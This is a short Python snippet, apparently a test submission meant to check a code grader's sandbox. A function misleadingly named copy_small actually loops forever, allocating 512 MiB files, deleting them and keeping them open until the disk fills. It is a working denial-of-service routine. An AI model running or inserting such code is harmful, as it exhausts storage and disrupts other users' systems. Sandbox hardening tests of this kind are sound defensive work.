# fills the disk with files that are deleted and open
# expect: not graded
def copy_small(source, target):
    import os

    held = []
    while True:
        held.append(open("file", "wb"))
        os.posix_fallocate(held[-1].fileno(), 0, 2**29)
        os.remove("file")
